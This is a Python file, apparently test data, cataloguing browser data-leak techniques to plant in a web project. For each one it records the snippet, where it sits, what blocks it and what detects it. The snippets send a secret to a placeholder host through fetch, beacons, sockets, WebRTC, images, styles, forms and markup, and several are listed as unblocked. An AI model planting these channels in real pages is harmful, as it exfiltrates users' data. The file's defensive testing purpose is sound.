"""Leaks to plant: what each does, where, what stops it in the browser, and what finds it.

A leak's code says `HERE` for an address of its own elsewhere (`OWN` for one of the site's), and has
what it gives away as `secret`; in a page that is built, where no script runs, that is a fixed word.
"""

from typing import NamedTuple

# Where a leak is planted.
PAGE = "a script of the page"
WORKER = "the worker's script"
EARLY = "the worker's script, before it shuts itself in"
MARKUP = "a page"
WORDS = "the words that a page fetches"
STYLE = "a style sheet"
EDITOR = "an editor's Markdown"
SERVICE_WORKER = "the service worker's script"
SERVICE_EARLY = "the service worker's script, before it shuts itself in"

# What stops it in the visitor's browser.
POLICY = "the policy of the page"
SHUT = "the worker, which is shut in"
SHUT_SERVICE = "the service worker, which is shut in"
READER = "the script that reads files"
ESCAPED = "the build, which makes text of it"
SERVICE = "the service worker"
NOTHING = "nothing"


class Leak(NamedTuple):
    """A leak, and what must become of it.

    `alone` where it takes the visitor away from the page; `later` says what stops it
    from the second visit on, when the service worker is there, if that is something else.
    `ahead` where nothing is asked for, but a name is looked up or a connection made.
    """

    name: str
    place: str
    code: str
    stopped: str
    found: str | None
    alone: bool = False
    later: str | None = None
    ahead: bool = False

    @property
    def mark(self) -> str:
        """What its addresses have in them."""
        return self.name.replace(" ", "-").replace(",", "").replace("’", "").lower()


def _element(tag: str, **values: str) -> str:
    """A script that puts such an element into the page."""
    sets = "".join(f"it.setAttribute({name!r}, {value});" for name, value in values.items())
    return f"const it = document.createElement({tag!r}); {sets} document.body.append(it);"


TO_HERE = "`HERE/${secret}`"
LEAKS = (
    Leak("fetch", PAGE, f"fetch({TO_HERE})", POLICY, "fetch"),
    Leak("fetch without CORS", PAGE, f'fetch({TO_HERE}, {{ mode: "no-cors" }})', POLICY, "fetch"),
    Leak("fetch later", PAGE, f"fetchLater({TO_HERE}, {{ activateAfter: 0 }})", POLICY, "fetch"),
    Leak(
        "XMLHttpRequest",
        PAGE,
        f'const it = new XMLHttpRequest(); it.open("GET", {TO_HERE}); it.send()',
        POLICY,
        "XMLHttpRequest",
    ),
    Leak("beacon", PAGE, f'navigator.sendBeacon("HERE/", {TO_HERE})', POLICY, "sendBeacon"),
    Leak("WebSocket", PAGE, f'new WebSocket({TO_HERE}.replace("http", "ws"))', POLICY, "WebSocket"),
    Leak("EventSource", PAGE, f"new EventSource({TO_HERE})", POLICY, "EventSource"),
    Leak(
        "WebTransport",
        PAGE,
        "await new WebTransport(`https://127.0.0.1:PACKETS/${secret}`).ready",
        POLICY,
        "WebTransport",
    ),
    Leak("import", PAGE, f"await import({TO_HERE})", POLICY, "import()"),
    Leak("image", PAGE, f"new Image().src = {TO_HERE}", POLICY, "element"),
    Leak(
        "image in a picture",
        PAGE,
        'const it = document.createElementNS("http://www.w3.org/2000/svg", "svg");'
        'const image = document.createElementNS("http://www.w3.org/2000/svg", "image");'
        f'image.setAttribute("href", {TO_HERE}); it.append(image); document.body.append(it)',
        POLICY,
        "attribute",
    ),
    Leak("video", PAGE, _element("video", src=TO_HERE), POLICY, "element"),
    Leak("object", PAGE, _element("object", data=TO_HERE), POLICY, "element"),
    Leak("frame", PAGE, _element("iframe", src=TO_HERE), POLICY, "element"),
    Leak(
        "style sheet", PAGE, _element("link", rel="'stylesheet'", href=TO_HERE), POLICY, "element"
    ),
    Leak("prefetch", PAGE, _element("link", rel="'prefetch'", href=TO_HERE), POLICY, "element"),
    Leak("preload", PAGE, _element("link", rel="'modulepreload'", href=TO_HERE), POLICY, "element"),
    Leak("style", PAGE, "document.body.style.background = `url(HERE/${secret})`", POLICY, "style"),
    Leak("font", PAGE, 'await new FontFace("a", `url(HERE/${secret})`).load()', POLICY, "style"),
    Leak(
        "markup",
        PAGE,
        'document.body.insertAdjacentHTML("beforeend", `<img src="HERE/${secret}">`)',
        POLICY,
        "markup",
    ),
    Leak(
        "markup of a policy of its own",
        PAGE,
        'const own = trustedTypes.createPolicy("own", { createHTML: (html) => html });'
        'document.body.append(document.createElement("p"));'
        'document.body.lastChild.innerHTML = own.createHTML(`<img src="HERE/${secret}">`)',
        POLICY,
        "unknown global",
    ),
    Leak(
        "script of a text",
        PAGE,
        "new Function(`new Image().src = 'HERE/${secret}'`)()",
        POLICY,
        "eval",
    ),
    Leak(
        "form",
        PAGE,
        _element("form", target="'_blank'", action=TO_HERE) + "it.submit()",
        POLICY,
        "form",
    ),
    Leak(
        "ping", PAGE, _element("a", href="'#x'", ping=TO_HERE) + "it.click()", POLICY, "attribute"
    ),
    Leak(
        "worker of an address",
        PAGE,
        "const it = new Worker(`OWN/network.js?${secret}`, { type: 'module' })",
        POLICY,
        "Worker",
    ),
    Leak("shared worker", PAGE, "new SharedWorker(`OWN/network.js?${secret}`)", POLICY, "Worker"),
    Leak(
        "worker of a text",
        PAGE,
        "const it = new Blob([`fetch('HERE/${secret}')`]); new Worker(URL.createObjectURL(it))",
        POLICY,
        "Worker",
    ),
    Leak(
        "WebRTC",
        PAGE,
        'const it = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PACKETS" }] });'
        'it.createDataChannel("a"); await it.setLocalDescription(await it.createOffer())',
        NOTHING,
        "RTCPeerConnection",
    ),
    Leak("window.open", PAGE, f"open({TO_HERE})", NOTHING, "window.open"),
    Leak("navigation", PAGE, f"location.href = {TO_HERE}", NOTHING, "navigation", alone=True),
    Leak(
        "download",
        PAGE,
        _element("a", download="''", href=TO_HERE) + "it.click()",
        NOTHING,
        "attribute",
        alone=True,
    ),
    Leak(
        "postMessage to the opener",
        PAGE,
        'opener.postMessage(`MARK/${secret}`, "*")',
        NOTHING,
        "opener",
        alone=True,
    ),
    Leak(
        "own address, query",
        PAGE,
        "fetch(`OWN/network.js?${secret}`)",
        NOTHING,
        "fetch",
        later=SERVICE,
    ),
    Leak(
        "own address, sent",
        PAGE,
        "navigator.sendBeacon(`OWN/${secret}`)",
        NOTHING,
        "sendBeacon",
        later=SERVICE,
    ),
    Leak(
        "own address, image",
        PAGE,
        "new Image().src = `OWN/${secret}.png`",
        NOTHING,
        "element",
        later=SERVICE,
    ),
    Leak(
        "own address, cookie",
        PAGE,
        'document.cookie = `MARK=${secret}; path=/`; await fetch("OWN/network.js")',
        NOTHING,
        "cookie",
    ),
    Leak(
        "own address, through the reader",
        PAGE,
        'const it = await import("../network.js"); await it.read(`${it.ROOT}?MARK=${secret}`)',
        READER,
        "network.js",
    ),
    Leak(
        "elsewhere, through the reader",
        PAGE,
        f'const it = await import("../network.js"); await it.read({TO_HERE})',
        READER,
        "network.js",
    ),
    Leak(
        "own address, a path through the reader",
        PAGE,
        'const it = await import("../network.js"); await it.read(`${it.ROOT}MARK/${secret}`)',
        NOTHING,
        "network.js",
        later=SERVICE,
    ),
    # The worker in which Python runs.
    Leak("fetch there", WORKER, f"await fetch({TO_HERE})", SHUT, "fetch"),
    Leak(
        "socket there", WORKER, f'new WebSocket({TO_HERE}.replace("http", "ws"))', SHUT, "WebSocket"
    ),
    Leak("own address there", WORKER, "await fetch(`OWN/network.js?${secret}`)", SHUT, "fetch"),
    Leak("import there", WORKER, f"await import({TO_HERE})", POLICY, "import()"),
    Leak("early fetch there", EARLY, f"await early({TO_HERE})", POLICY, "fetch"),
    Leak(
        "early own address there",
        EARLY,
        "await early(`OWN/network.js?${secret}`)",
        NOTHING,
        "fetch",
        later=SERVICE,
    ),
    # The service worker, which no policy binds where the host sends none.
    Leak("fetch far there", SERVICE_WORKER, "await fetch(`HERE/${secret}`)", SHUT_SERVICE, "fetch"),
    Leak(
        "socket far there",
        SERVICE_WORKER,
        'new WebSocket(`HERE/${secret}`.replace("http", "ws"))',
        SHUT_SERVICE,
        "WebSocket",
    ),
    Leak("early fetch far there", SERVICE_EARLY, "await early(`HERE/${secret}`)", NOTHING, "fetch"),
    # What is built.
    Leak("image in a page", MARKUP, '<img src="HERE/visit">', POLICY, "elsewhere"),
    Leak("set of images in a page", MARKUP, '<img srcset="HERE/visit 2x">', POLICY, "elsewhere"),
    Leak(
        "style sheet in a page",
        MARKUP,
        '<link rel="stylesheet" href="HERE/visit">',
        POLICY,
        "elsewhere",
    ),
    Leak(
        "prefetch in a page", MARKUP, '<link rel="prefetch" href="HERE/visit">', POLICY, "elsewhere"
    ),
    Leak("script in a page", MARKUP, '<script src="HERE/visit"></script>', POLICY, "elsewhere"),
    Leak(
        "script written into a page",
        MARKUP,
        "<script>new Image().src = 'HERE/visit'</script>",
        POLICY,
        "inline script",
    ),
    Leak(
        "handler in a page",
        MARKUP,
        "<img src='mark.svg' onerror=\"new Image().src = 'HERE/visit'\">",
        POLICY,
        "handler",
    ),
    Leak(
        "style written into a page",
        MARKUP,
        '<p style="background: url(HERE/visit)">A</p>',
        POLICY,
        "inline style",
    ),
    Leak("frame in a page", MARKUP, '<iframe src="HERE/visit"></iframe>', POLICY, "frame"),
    Leak("embedded in a page", MARKUP, '<embed src="HERE/visit">', POLICY, "frame"),
    Leak(
        "refresh in a page",
        MARKUP,
        '<meta http-equiv="refresh" content="0; HERE/visit">',
        NOTHING,
        "refresh",
        alone=True,
    ),
    Leak(
        "name looked up ahead",
        MARKUP,
        '<link rel="dns-prefetch" href="//MARK.test">',
        NOTHING,
        "ahead",
        ahead=True,
    ),
    Leak(
        "connection made ahead",
        MARKUP,
        '<link rel="preconnect" href="http://MARK.test">',
        NOTHING,
        "ahead",
        ahead=True,
    ),
    Leak("image in words", WORDS, '<img src="HERE/visit">', POLICY, "elsewhere"),
    Leak("import in a style sheet", STYLE, '@import "HERE/visit";', POLICY, "import"),
    Leak(
        "address in a style sheet",
        STYLE,
        "html { background: url(HERE/visit) }",
        POLICY,
        "elsewhere",
    ),
    Leak(
        "font in a style sheet",
        STYLE,
        "@font-face { font-family: leak; src: url(HERE/visit) } * { font-family: leak !important }",
        POLICY,
        "elsewhere",
    ),
    Leak("image in Markdown", EDITOR, "![](HERE/visit)", POLICY, "elsewhere"),
    Leak("HTML in Markdown", EDITOR, '<img src="HERE/visit">', ESCAPED, None),
)
